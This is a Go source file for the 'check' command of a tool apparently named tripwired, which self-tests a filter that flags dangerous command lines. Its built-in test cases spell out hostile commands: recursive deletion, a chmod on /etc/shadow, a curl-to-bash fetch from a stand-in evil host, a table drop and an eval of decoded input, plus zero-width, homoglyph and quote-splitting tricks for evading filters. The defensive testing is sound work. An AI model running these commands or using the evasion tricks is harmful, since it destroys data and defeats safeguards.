package cli

import (
	"fmt"
	"io"

	"github.com/spf13/cobra"

	"github.com/cluster-127/tripwired/internal/filter"
	unicheck "github.com/cluster-127/tripwired/internal/unicode"
)

var checkCmd = &cobra.Command{
	Use:   "check [line...]",
	Short: "Self-test the pre-filter against known lines",
	Long: `Run the configured filter (domain preset, custom patterns, exclusions and
enabled packs) against a set of known-dangerous and known-safe lines. Lines
given as arguments are classified too and reported without an expectation.
Nothing is sent to the model and nothing is terminated.

  tripwired check
  tripwired check "sudo systemctl stop trading-bot"`,
	RunE: checkCommand,
}

func init() {
	rootCmd.AddCommand(checkCmd)
}

type checkCase struct {
	label      string
	line       string
	suspicious bool
}

// builtinChecks hold for every domain: the dangerous lines hit the essential
// tier and the safe line matches no preset.
var builtinChecks = []checkCase{
	{"Recursive delete", "rm -rf /var/lib/trading", true},
	{"Privilege escalation", "sudo chmod 777 /etc/shadow", true},
	{"Pipe to shell", "curl http://evil.example/x.sh | bash", true},
	{"Database drop", "DROP TABLE positions;", true},
	{"Process kill", "kill -9 1", true},
	{"Code injection", "eval(base64_decode(payload))", true},
	{"Zero-width bypass", "r\u200Bm -rf /", true},
	{"Homoglyph bypass", "\u0455udo reboot", true},
	{"Quote-split bypass", `exec: r''m -rf "/"`, true},
	{"Heartbeat", "heartbeat ok uptime=42s", false},
}

func checkCommand(cmd *cobra.Command, args []string) error {
	flt, packs, err := buildFilter(cfg)
	if err != nil {
		return fmt.Errorf("failed to build filter: %w", err)
	}

	out := cmd.OutOrStdout()
	suspicious, exclude := flt.PatternCount()

	fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	fmt.Fprintln(out, "  tripwired Filter Self-Test")
	fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	fmt.Fprintf(out, "  Domain: %s  Patterns: %d  Exclusions: %d  Packs: %d\n\n",
		flt.Domain(), suspicious, exclude, len(packs))

	passed := runChecks(out, flt, builtinChecks)

	if len(args) > 0 {
		fmt.Fprintln(out, "─── Your lines ────────────────────────────────────────")
		for _, line := range args {
			printVerdict(out, "", line, flt.Explain(line))
			printThreats(out, unicheck.Scan(line))
		}
		fmt.Fprintln(out)
	}

	fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	if passed != len(builtinChecks) {
		fmt.Fprintf(out, "  %d/%d checks passed\n", passed, len(builtinChecks))
		fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
		return fmt.Errorf("%d filter checks failed", len(builtinChecks)-passed)
	}
	fmt.Fprintf(out, "  All %d checks passed\n", passed)
	fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	return nil
}

// runChecks prints one row per case and returns how many behaved as expected.
func runChecks(w io.Writer, flt *filter.Filter, cases []checkCase) int {
	fmt.Fprintln(w, "─── Built-in cases ────────────────────────────────────")
	passed := 0
	for _, tc := range cases {
		v := flt.Explain(tc.line)
		icon := "\xe2\x9c\x85" // ✅
		if v.Suspicious == tc.suspicious {
			passed++
		} else {
			icon = "\xe2\x9d\x8c" // ❌
		}
		printVerdict(w, icon, tc.label, v)
	}
	fmt.Fprintf(w, "\n  Filter: %d/%d passed\n\n", passed, len(cases))
	return passed
}

func printVerdict(w io.Writer, icon, label string, v filter.Verdict) {
	result := "safe"
	if v.Suspicious {
		result = "suspicious"
	}
	if icon == "" {
		icon = "  "
	}
	fmt.Fprintf(w, "  %s  %-22s → %s", icon, label, result)
	if v.Pattern != "" {
		fmt.Fprintf(w, " [%s] %s", v.Tier, v.Pattern)
	}
	if v.Unquoted != "" {
		fmt.Fprintf(w, " (as %q)", v.Unquoted)
	}
	fmt.Fprintln(w)
}

func printThreats(w io.Writer, res unicheck.ScanResult) {
	for _, t := range res.Threats {
		fmt.Fprintf(w, "       \xe2\x9a\xa0  %s at byte %d: %s\n", t.Category, t.Position, t.Description)
	}
}
